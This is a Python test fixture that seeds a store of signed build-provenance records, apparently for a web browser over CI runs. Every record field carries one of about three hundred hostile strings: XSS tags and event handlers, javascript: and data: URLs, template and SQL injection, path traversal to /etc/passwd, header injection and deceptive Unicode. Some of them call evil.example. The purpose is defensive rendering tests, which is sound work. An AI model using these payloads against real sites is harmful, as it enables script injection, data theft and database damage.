"""Three hundred strings of strangers, and a world in which each of them is in every field that a run has."""

from __future__ import annotations

import asyncio
import hashlib
import itertools
from pathlib import Path
from typing import Any

from chains.index.database import place_of
from chains.web.settings import WebSettings
from signers.formats.bundle import build_bundle
from storage.open import open_store
from storage.record import IN_TOTO_PAYLOAD_TYPE, Origin, Record, Subject
from tests.unit.chains.index.made import UID, Signer, built, provenance, report, trust
from tests.unit.chains.web.world import World

Json = Any
_CALLS = ("eval('1')", "alert(1)", "window.pwned=1", "fetch('https://evil.example/')")
_TAGS = (
    "<script>{}</script>", "</script><script>{}</script>", '"><script>{}</script>', "'><svg/onload={}>",
    "<img src=x onerror={}>", "<svg><script>{}</script></svg>", "<iframe srcdoc='<script>{}</script>'>",
    "<a href='javascript:{}'>x</a>", "</title><script>{}</script>", "</textarea><img src=x onerror={}>",
    "<details open ontoggle={}>", "<body onload={}>", "<math><mi xlink:href='javascript:{}'>", "--><script>{}</script>",
    "]]><script>{}</script>", "<style>@import 'https://evil.example/';</style>{}", "<base href='//evil.example/'>{}",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>{}", "<form action=https://evil.example/>{}",
    "<link rel=stylesheet href=https://evil.example/x.css>{}", "<object data='javascript:{}'>", "<!--{}", "<![CDATA[{}",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover="{}', "' onfocus='{}' autofocus='", '" style="background:url(https://evil.example/{})',
    "` onclick=`{}", '" src="javascript:{}', '"><image href=x onerror={}>', 'x" tabindex=1 onfocus={} x="',
)  # fmt: skip
_URLS = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "vbscript:{}",
    "data:text/html,<script>{}</script>", "//evil.example/{}", "\\\\evil.example\\{}", "https:evil.example/{}",
    "https://user:{}@evil.example/", "https://evil.example\u202e/{}", "file:///etc/passwd?{}", "blob:https://evil/{}",
    "view-source:https://evil.example/{}", 'https://evil.example/" onclick="{}', "git+javascript:{}", "oci://javascript:{}",
    "http://[::1", "https://evil.example:{}/", "%6Aavascript:{}", "&#106;avascript:{}", "https://evil.example/{}'>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ 7 * 7 }}}} {}", "{{% include '/etc/passwd' %}} {}", "{{{{ config }}}} {}", "${{7*7}} {}", "#{{7*7}} {}", "<%= {} %>",
    "{{{{ ''.__class__.__mro__ }}}} {}", "%s%n%x {}", "{{0}} {}", "' OR '1'='1' -- {}", '"; DROP TABLE run; -- {}',
)  # fmt: skip
_CHARACTERS = (
    "\u202egnp.exe", "\u2066x\u2069", "a\u200bb", "a\u200db", "\ufeffa", "\u00ada", "\u2028a\u2029b", "a\x00b", "\x1b[31mred\x07",
    "\x9b31m", "\r\nSet-Cookie: a=b", "\t\v\f", "e\u0301" * 40, "Z\u0300\u0301\u0302\u0303" * 60, "\U000e0041\U000e0042", "\u3164", "\u115f\u1160",
    "\u061c\u200e\u200f", "\u043f\u0430\u0443pal.example", "\uff46\uff55\uff4c\uff4c", "مرحبا بالعالم", "שלום עולם", "日本語の名前", "👩‍👩‍👧‍👦" * 20, "\U0001f1e9\U0001f1ea", "a" * 5000,
    "a " * 2000, "W" * 300, "-" * 400, "/" * 300, "." * 300, "..", "../../../etc/passwd", "..%2f..%2f", "%00", "%", "?q=x#y", "#main", "a/b/c/d",
    "con", "NUL", "", " ", '"', "'", "`", "\\", "\\u{202e}", "&lt;b&gt;", "&amp;amp;", "&#x202e;", "<", ">", "]]>", "<>", "={1+1}", "=1+1", "+1", "@SUM(1)",
    "null", "undefined", "NaN", "true", "[object Object]", "__proto__", "constructor", "\ue000private", "\ufffe", "\U0010ffff", "\u0085", "\u00a0\u3000",
)  # fmt: skip


def corpus() -> list[str]:
    """Return the strings, each once."""
    forms = (*_TAGS, *_ATTRIBUTES, *_URLS, *_TEMPLATES)
    made = [form.format(call) for form, call in itertools.product(forms, _CALLS)]
    return list(dict.fromkeys((*made, *_CHARACTERS)))


def _hostile(value: Json, text: str) -> Json:
    """Return a statement with a text in place of what ``@`` stands for."""
    if isinstance(value, dict):
        return {
            key.replace("@", text) if key == "@" else key: _hostile(item, text) for key, item in value.items()
        }
    if isinstance(value, list):
        return [_hostile(item, text) for item in value]
    return value.replace("@", text) if isinstance(value, str) else value


def statements(number: int, text: str) -> list[Json]:
    """Return the provenance and the report of a run whose every field has a text."""
    digest = hashlib.sha256(text.encode()).hexdigest()
    build = provenance(number, image="@", pipeline="@", builder="@")
    definition = build["predicate"]["buildDefinition"]
    definition["externalParameters"]["runSpec"] |= {
        "params": [{"name": "@", "value": "@"}, {"name": "list", "value": ["@", "@"]}],
        "serviceAccountName": "@",
        "taskRef": {"resolver": "@", "name": "@"},
    }
    definition["internalParameters"] = {"labels": {"@": "@"}, "annotations": {"@": "@"}}
    definition["resolvedDependencies"] = [
        {"uri": "@", "digest": {"sha1": digest[:40]}, "name": "inputs/result"},
        {"uri": "git+@", "digest": {"sha1": digest[:40]}, "name": "task"},
        {"uri": "oci://@", "digest": {"sha256": digest}},
        {"uri": "https://git.example/@", "digest": {"sha256": digest}, "name": "@"},
    ]
    build["predicate"]["runDetails"]["byproducts"] = [
        {"name": "taskRunResults/@", "content": "IkAi", "mediaType": "@"},
        {"name": "taskRunResults/run/@", "content": "IkAi", "mediaType": "application/json"},
    ]
    told = report(number, image="@", namespace="@", name="@")
    told["predicate"]["attributes"] += [
        {"attribute": "HERMETIC_CHILD_LEVEL", "target": {"name": "taskrun/@/@"}, "conditions": {"level": "@", "reason": "@", "uid": "@"}},
        {"attribute": "HINT_REJECTED", "target": {"name": "@"}, "conditions": {"reason": "@"}},
        {
            "attribute": "HERMETIC_EXECUTION",
            "target": {"name": "step/@", "uri": "@", "digest": {"sha256": digest}},
            "conditions": {"requested": {"value": "@", "reason": "@"}, "enforced": {"value": "@", "reason": "@"}},
        },
        {"attribute": "POD_NETWORK", "target": {"name": "@"}, "conditions": {"@": {"value": "@", "reason": "@"}}},
    ]  # fmt: skip
    for one in told["predicate"]["attributes"]:
        if one["attribute"] == "HERMETIC_LEVEL":
            one["conditions"]["reason"] = "@"
        if one["attribute"] == "POD_FACTS":
            one["conditions"] |= {"nodeName": "@", "runtimeClassName": "@"}
        if one["attribute"] == "RUN_FACTS":
            one["conditions"]["trigger"] = {"eventListener": "@", "trigger": "@"}
            one["conditions"]["createdBy"] = {"pipelinesascode.tekton.dev/sender": "@"}
        if one["attribute"] == "RUN_OUTCOME":
            one["conditions"] |= {"reason": "@", "serviceAccountName": "@"}
    return [_hostile(one, text) for one in (build, told)]


def make_hostile_world(folder: Path) -> World:
    """Return the browser over runs by strangers whose signatures were confirmed, and the same not confirmed."""
    trusted, stranger = Signer(), Signer()
    url = f"file:{folder / 'store'}"

    async def put() -> None:
        async with open_store(url) as store:
            for number, text in enumerate(corpus()):
                signer = stranger if number % 5 == 4 else trusted
                for one in statements(number, text):
                    await store.put(_record(number, one, signer))

    asyncio.run(put())
    place = place_of(str(folder / "index.db"))
    built(place, trust(trusted), url)
    return World(folder, place, WebSettings(place))


def _record(number: int, told: Json, signer: Signer) -> Record:
    envelope = signer.envelope(told)
    return Record(
        origin=Origin("taskrun", "ci", f"run-{number}", UID(number)),
        subjects=(Subject("image", {"sha256": hashlib.sha256(b"%d" % number).hexdigest()}),),
        payload=envelope.payload,
        payload_type=IN_TOTO_PAYLOAD_TYPE,
        predicate_type=told["predicateType"],
        bundle=build_bundle(envelope, signer.key.keyid),
        envelope=envelope.to_bytes(),
    )
